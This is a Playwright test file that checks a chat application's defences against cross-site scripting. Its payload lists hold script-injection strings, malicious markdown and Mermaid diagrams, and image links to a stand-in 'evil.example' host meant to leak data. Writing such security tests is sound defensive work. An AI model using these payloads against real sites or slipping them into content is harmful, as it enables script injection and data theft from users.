// Text from users and agents stays text: it runs no script and sends no request to another site.
import type { Browser, Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchBrowser, logIn, newVisitor, startChat, type Visitor } from './support/browser.ts';
import { startParley, type Parley } from './support/parley-process.ts';

/** Attempts to run a script or to load a URL, as part of a message, a name or an answer. */
const CORPUS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">link</a>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<form action="https://evil.example"><input name=x></form>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<video><source onerror=alert(1)></video>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](vbscript:msgbox(1))',
  '[a](https://ok.example "onmouseover=alert(1)")',
  '![a](javascript:alert(1))',
  '![secret](https://evil.example/?q=secret)',
  '![x](https://evil.example/x.png"onerror="alert(1))',
  '<javascript:alert(1)>',
  '[ref]: javascript:alert(1)\n\n[ref]',
  '```html"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |',
  '# <img src=x onerror=alert(1)>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '\u202Egpj.exe <b onmouseover=alert(1)>x</b>',
  '</textarea><script>alert(1)</script>',
  '<sub onmouseover=alert(1) style="background:url(https://evil.example/x)">x</sub>',
  '<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary><img src=x onerror=alert(1)></details>',
  '$\\href{javascript:alert(1)}{x} \\htmlData{a=b}{y} \\url{javascript:alert(1)}$',
  '$$\\includegraphics{https://evil.example/x.png}$$',
  '{{constructor.constructor("alert(1)")()}}',
];

/** Attempts of a diagram to do the same. */
const DIAGRAMS = [
  'graph TD\n  A["<img src=x onerror=alert(1)>"] --> B',
  'graph TD\n  A --> B\n  click A "javascript:alert(1)"',
  'graph TD\n  A --> B\n  click B call alert(1)',
  '%%{init: {"securityLevel": "loose", "themeCSS": "@import url(https://evil.example/x.css);"}}%%\ngraph TD\n  A["<script>alert(1)</script>"]',
  'graph TD\n  A@{ img: "https://evil.example/x.png", label: "x" }',
];

describe('untrusted text', () => {
  let parley: Parley;
  let browser: Browser;
  let visitor: Visitor;
  let page: Page;
  let foreign: string[];

  beforeAll(async () => {
    [parley, browser] = await Promise.all([startParley(), launchBrowser()]);
    visitor = await newVisitor(browser, parley.url);
    ({ page } = visitor);
    foreign = [];
    visitor.context.on('request', (request) => {
      const { origin, protocol } = new URL(request.url());
      if (origin !== parley.url && protocol.startsWith('http')) foreign.push(request.url());
    });
    await logIn(page);
  });
  afterAll(async () => {
    await browser.close();
    await parley[Symbol.asyncDispose]();
  });

  const expectHarmless = async (): Promise<void> => {
    expect(visitor.problems).toEqual([]);
    expect(foreign).toEqual([]);
    const found = await page.evaluate(() => ({
      elements: [
        ...document.querySelectorAll('script, iframe, object, embed, base, form[action], link, style, meta'),
      ]
        .filter((element) => element.closest('#root') !== null)
        .map((element) => element.outerHTML.slice(0, 100)),
      handlers: [...document.querySelectorAll('#root *')]
        .filter((element) => element.getAttributeNames().some((name) => name.startsWith('on')))
        .map((element) => element.outerHTML.slice(0, 100)),
      links: [...document.querySelectorAll('#root a')]
        .map((link) => link.getAttribute('href') ?? '')
        .filter((href) => !/^(https?:|mailto:|\/|#main$|#[\w:«»_-]+-(?:note|ref)-\d+$)/.test(href)),
      pictures: [...document.querySelectorAll('#root img')]
        .map((image) => image.getAttribute('src') ?? '')
        .filter((src) => !/^(\/(?!\/)|blob:)/.test(src)),
    }));
    expect(found).toEqual({ elements: [], handlers: [], links: [], pictures: [] });
  };

  test('text in answers and messages runs no script and loads nothing from another site', async () => {
    const composer = page.getByRole('textbox', { name: /^Write/ });
    await startChat(page, 'Hello');
    await page.getByText('the ways in which I fail on purpose').waitFor();
    await page.getByRole('button', { name: 'Send' }).waitFor();
    for (const [index, attack] of CORPUS.entries()) {
      const answers = page.getByRole('article', { name: 'Demo' });
      await composer.fill(`echo ${attack}\n\nend of ${index}`);
      await page.keyboard.press('Enter');
      await answers.last().getByText(`end of ${index}`).waitFor();
      await page.getByRole('button', { name: 'Send' }).waitFor();
    }
    await expectHarmless();
    // The text is shown as written, not dropped.
    await page.getByRole('article', { name: 'You' }).getByText('{{constructor').waitFor();
    await page.reload();
    await page
      .getByRole('article', { name: 'Demo' })
      .last()
      .getByText(`end of ${CORPUS.length - 1}`)
      .waitFor();
    await expectHarmless();
  }, 240_000);

  test('a diagram runs no script, loads nothing from another site, and is a picture', async () => {
    const own = await newVisitor(browser, parley.url);
    const requests: Request[] = [];
    own.context.on('request', (request) => requests.push(request));
    await logIn(own.page);
    for (const diagram of DIAGRAMS) {
      await startChat(own.page, `echo \`\`\`mermaid\n${diagram}\n\`\`\``);
      await own.page
        .getByText('This diagram cannot be drawn.')
        .or(own.page.getByRole('img', { name: /^Diagram/ }))
        .waitFor({ timeout: 60_000 });
    }
    // The frame's policy blocks what Mermaid lets through.
    const sent = requests
      .filter((request) => request.failure()?.errorText !== 'csp')
      .map((request) => request.url());
    expect(sent.filter((url) => !/^(blob|data):/.test(url) && !url.startsWith(parley.url))).toEqual([]);
    expect(await own.page.locator('#root svg a, #root svg script').count()).toBe(0);
    expect(own.problems.filter((problem) => !problem.startsWith('CSP: '))).toEqual([]);
    await own.context.close();
  }, 240_000);

  test('a link in an answer opens a new tab without a referrer', async () => {
    await startChat(
      page,
      'echo [the docs](https://docs.example/a?b=c) and ![a picture](https://pictures.example/1.png)',
    );
    const link = page.getByRole('article').getByRole('link', { name: 'the docs' });
    await link.waitFor();
    expect(await link.getAttribute('href')).toBe('https://docs.example/a?b=c');
    expect(await link.getAttribute('target')).toBe('_blank');
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    // An image is a link too: loading it would reveal the reader to its server.
    expect(
      await page.getByRole('article').getByRole('link', { name: 'a picture' }).getAttribute('href'),
    ).toBe('https://pictures.example/1.png');
    await expectHarmless();
  });

  test('names of chats and agents run no script and load nothing from another site', async () => {
    await page.goto('/admin/agents');
    await page.getByRole('list', { name: 'Agents' }).getByRole('link').first().click();
    const url = await page.getByLabel('Webhook URL').inputValue();
    const [first, ...more] = [
      '<img src=x onerror=alert(1)>',
      '"><svg onload=alert(1)>',
      "javascript:alert('1')",
    ] as const;
    for (const attack of [first, ...more]) {
      await page.goto('/admin/agents/new');
      await page.getByLabel('Name').fill(attack);
      await page.getByLabel('Description').fill(attack);
      await page.getByLabel('Webhook URL').fill(url);
      await page.getByRole('button', { name: 'Create agent' }).click();
      await page.getByRole('heading', { name: attack }).waitFor();
    }
    await expectHarmless();
    await startChat(page, '<script>alert(1)</script>', first);
    await page.getByRole('heading', { level: 1, name: '<script>alert(1)</script>' }).waitFor();
    await page.getByRole('article', { name: first, exact: true }).waitFor();
    await expectHarmless();
  });

  test('the Content-Security-Policy blocks an injected script', async () => {
    const stopped = await newVisitor(browser, parley.url);
    await stopped.page.goto('/login');
    await stopped.page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'document.title = "it ran"';
      document.body.append(script);
    });
    await expect.poll(() => stopped.problems.join()).toContain('CSP: script-src');
    expect(await stopped.page.title()).not.toBe('it ran');
    await stopped.context.close();
  });
});
